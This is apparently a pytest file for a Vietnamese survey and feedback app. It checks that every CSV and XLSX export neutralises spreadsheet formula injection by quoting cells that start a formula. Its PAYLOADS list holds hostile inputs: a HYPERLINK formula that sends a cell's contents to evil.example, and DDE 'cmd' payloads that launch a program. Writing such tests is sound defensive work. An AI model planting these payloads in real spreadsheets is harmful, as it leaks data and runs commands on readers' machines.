"""No export is a spreadsheet that attacks its reader (OWASP CSV injection).

Payloads are planted in every text that reaches a CSV or XLSX file: agency,
counter and procedure names and codes, field codes, a case's content, name,
phone and e-mail. Each export is then read the way a spreadsheet reads it: no
XLSX cell is a formula or a text that starts one, and no CSV cell starts one,
whether the file is split on its commas or on the semicolons a Vietnamese
Excel uses as its list separator.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font
from sqlalchemy import select

from analysis.cli import main as analysis_main
from survey_app.agencies.models import Agency, DossierVolume
from survey_app.auth.models import Role
from survey_app.core.spreadsheet import csv_text, csv_writer, safe_text, xlsx_row, xlsx_value
from survey_app.extensions import db
from survey_app.feedback.models import CaseChannel, CaseKind
from survey_app.feedback.services import Submission, submit
from survey_app.reports import documents, services
from survey_app.reports.periods import Period
from tests import factories
from tests.helpers import logged_in
from tests.reports.conftest import respond

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    ' "=1+1"',
    "＝1+1",  # full-width equals sign
    "Quầy 1;=1+1",  # a cell of its own for a spreadsheet splitting on ";"
    "Quầy 2,-2+3+cmd|' /C calc'!A0",
    "Dòng một\n=1+1",
)
#: What a spreadsheet reads as the start of a formula, at the start of a cell.
FORMULA_START = re.compile(r"[\t\r]|[\s\"]*[=+\-@＝＋－＠]")


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_is_inert(text: str) -> None:
    """No cell starts a formula: split as CSV (commas, quotes), and split on every
    character some spreadsheet takes for a separator or a row end."""
    text = text.lstrip("\ufeff")
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    fragments = re.split(r"[,;\t\r\n]", text)
    bad = [
        c
        for c in (*cells, *fragments)
        if FORMULA_START.match(c) and not _number(c.strip().strip('"'))
    ]
    assert not bad, bad


def assert_xlsx_is_inert(body: bytes) -> int:
    """No cell is a formula, or text that starts one; returns the number of text cells."""
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in z.read(n).decode() for n in sheets)
    texts = 0
    for ws in load_workbook(io.BytesIO(body)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts += 1
                    assert not FORMULA_START.match(cell.value), (ws.title, cell.value)
    return texts


# -- the shared helper ------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS[:8])
def test_a_text_that_starts_a_formula_gets_a_leading_quote(payload):
    assert safe_text(payload) == "'" + payload
    cell = csv_text(payload)
    assert cell.startswith("'") and cell.replace("'", "") == payload.replace("'", "")
    # a tab or carriage return is a separator too: the formula after it is broken as well
    assert not any(FORMULA_START.match(f) for f in re.split(r"[,;\t\r\n]", cell))


@pytest.mark.parametrize(
    "text",
    ["Sở Tư pháp", "UBND huyện Thanh Hà", "1.001193", "PA-26-ABC234", "", "a-b=c", "5 + 3"],
)
def test_ordinary_text_is_unchanged(text):
    assert safe_text(text) == text and csv_text(text) == text


def test_csv_text_breaks_cells_a_separator_or_line_break_would_start():
    assert csv_text("Quầy 1;=1+1") == "Quầy 1;'=1+1"
    assert csv_text('a, "=1+1"') == 'a,\' "=1+1"'
    assert csv_text("Đề nghị:\n- bớt giấy tờ") == "Đề nghị:\n'- bớt giấy tờ"
    # XLSX has no separators: only the start of the cell matters there
    assert safe_text("Quầy 1;=1+1") == "Quầy 1;=1+1"


def test_numbers_stay_numbers_and_text_stays_text():
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow([-1, 2.5, None, "-1", "=A1", True])
    assert out.getvalue() == "-1,2.5,,'-1,'=A1,True\n"
    book = Workbook(write_only=True)
    ws = book.create_sheet("x")
    row = [-1, 0.25, None, "=A1", "-1", date(2026, 1, 2), "Chuông\x07 reo"]
    styled = xlsx_row(ws, row, font=Font(bold=True))
    assert [c.data_type for c in styled] == ["n", "n", "n", "s", "s", "d", "s"]
    ws.append(styled)
    ws.append(xlsx_row(ws, row))  # plain values: openpyxl types them itself
    buffer = io.BytesIO()
    book.save(buffer)
    for cells in load_workbook(buffer).active.iter_rows(max_col=7):
        assert [c.data_type for c in cells] == ["n", "n", "n", "s", "s", "d", "s"]
        values = [c.value for c in cells]
        # XLSX cannot hold control characters: they are left out
        assert values[:5] == [-1, 0.25, None, "'=A1", "'-1"] and values[6] == "Chuông reo"
    assert xlsx_value("=1") == "'=1" and xlsx_value(3) == 3


# -- every export -----------------------------------------------------------------------------


def _plant_cases():
    """One agency, procedure and case per payload, with the payload in every text."""
    emails = ("=1+1@example.vn", "+cmd@example.vn", "-2+3@example.vn")
    for k, payload in enumerate(PAYLOADS):
        agency = factories.agency(payload + f" {k}")
        procedure = factories.procedure(agency, code=f"{payload[:30]}{k}")
        case, _ = submit(
            Submission(
                kind=CaseKind.report,
                content="Quầy đòi giấy tờ không có trong quy định.",
                submitter_name="Nguyễn Văn An",
                contact_phone="0912345678",
                consent=True,
                procedure=procedure,
            ),
            CaseChannel.web,
        )
        # then the payloads themselves, as an import or another channel could store them
        case.content = f"{payload} — nội dung phản ánh {k}"
        case.submitter_name = payload
        case.contact_phone = "+84912345678" if k % 2 else payload[:40]  # its column's length
        case.contact_email = emails[k % len(emails)]
    db.session.commit()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("role", [Role.coordinator, Role.handler])
def test_feedback_exports_masked_and_unmasked_are_inert(app, fmt, role):
    with app.app_context():
        _plant_cases()
        # a handler sees one agency's cases: give them the first payload's agency
        first = db.session.scalars(select(Agency).order_by(Agency.id)).first()
        email = factories.user(role, first if role == Role.handler else None).email
        db.session.commit()
    reply = logged_in(app, email).get(f"/staff/feedback/export.{fmt}?scope=all")
    assert reply.status_code == 200
    if fmt == "csv":
        text = reply.get_data(as_text=True)
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
        assert len(rows) == 1 + (len(PAYLOADS) if role == Role.coordinator else 1), rows
        assert "HYPERLINK" in text  # the payload is there, as text
        assert_csv_is_inert(text)
    else:
        rows = list(load_workbook(io.BytesIO(reply.data)).active.iter_rows(values_only=True))
        assert len(rows) == 1 + (len(PAYLOADS) if role == Role.coordinator else 1)
        assert rows[1][4] == "'" + PAYLOADS[0] + " 0"  # the agency's name, quoted
        assert assert_xlsx_is_inert(reply.data) >= 10


def test_report_xlsx_is_inert_with_payload_names(app):
    with app.app_context():
        for k, payload in enumerate(PAYLOADS):
            agency = factories.agency(payload, code=f"{payload[:20]}{k}")
            for j in range(2):
                counter = factories.counter(agency, f"{PAYLOADS[-1 - k]} {j}")
                for i in range(12):
                    respond(counter, 5 if i % 3 else 2, {"A1": 4, "C1": 5 if i % 4 else 1})
        db.session.commit()
        report = services.compute_report(Period.parse("2022-03"))
        body = documents.report_xlsx(report)
        assert len(report["agencies"]) == len(PAYLOADS)
        email = factories.user(Role.coordinator).email
        db.session.commit()
    names = [
        r[1] for r in load_workbook(io.BytesIO(body))["Cơ quan"].iter_rows(2, values_only=True)
    ]
    assert names[-1] == "Toàn tỉnh"  # the province closes the table
    assert set(names[:-1]) == {safe_text(p.strip()) for p in PAYLOADS}  # stored stripped
    assert assert_xlsx_is_inert(body) > 100
    download = logged_in(app, email).get("/staff/reports/report.xlsx?period=2022-03")
    assert download.status_code == 200
    assert_xlsx_is_inert(download.data)


def test_flask_export_csv_is_inert_and_the_analysis_still_reads_it(app, runner, tmp_path):
    codes = ("-SNV", "=STP", "+SXD", "@SYT")
    with app.app_context():
        for k, code in enumerate(codes):
            agency = factories.agency(code=code)
            field = factories.field(code=f"{code}F")
            procedure = factories.procedure(agency, field)
            counter = factories.counter(agency)
            for i in range(12):
                respond(
                    counter,
                    5 if (i + k) % 3 else 2,
                    {"A1": 4, "C1": 5 if i % 4 else 1},
                    when=datetime(2024, 3, 1 + i, 2, tzinfo=UTC),
                    procedure=procedure,
                )
            db.session.add(
                DossierVolume(agency=agency, field=field, month=date(2024, 3, 1), dossiers=50 + k)
            )
        db.session.commit()
    paths = {kind: tmp_path / f"{kind}.csv" for kind in ("responses", "volumes")}
    for kind, path in paths.items():
        result = runner.invoke(
            args=["export", kind, "--from", "2024-03-01", "--to", "2024-03-31", "-o", str(path)]
        )
        assert result.exit_code == 0, result.output
        assert_csv_is_inert(path.read_text(encoding="utf-8"))
    responses = list(csv.DictReader(paths["responses"].open(encoding="utf-8", newline="")))
    assert {r["agency"] for r in responses} == {"'" + c for c in codes}
    assert {r["Q0"] for r in responses} == {"2", "5"}  # ratings are numbers, unquoted
    out = tmp_path / "indices.csv"
    status = analysis_main(
        [
            "indices",
            str(paths["responses"]),
            "--volumes",
            str(paths["volumes"]),
            "--by",
            "agency",
            "--min-n",
            "5",
            "--format",
            "csv",
            "-o",
            str(out),
        ]
    )
    assert status == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert {r["agency"] for r in rows if r["agency"]} == {"'" + c for c in codes}
    assert_csv_is_inert(out.read_text(encoding="utf-8"))


def test_analysis_csv_output_is_inert_whatever_its_input(tmp_path):
    """``python -m analysis`` may read a file from elsewhere: its CSV output is inert too."""
    from analysis import load_questionnaire

    items = load_questionnaire().item_codes
    lines = ["response_id,agency,submitted_at," + ",".join(items)]
    for k, agency in enumerate(("=1+1", "-2+3", "@SUM(1)", "Sở;=1+1")):
        for i in range(8):
            ratings = [str(5 if i % 3 else 2)] + ["4"] * (len(items) - 1)
            lines.append(
                f'{k * 100 + i},"{agency}",2024-03-0{1 + i}T02:00:00Z,' + ",".join(ratings)
            )
    source = tmp_path / "responses.csv"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "indices.csv"
    args = ["indices", str(source), "--by", "agency", "--min-n", "5", "--format", "csv"]
    assert analysis_main([*args, "-o", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    assert "'@SUM(1)" in text and "Sở;'=1+1" in text
    assert_csv_is_inert(text)
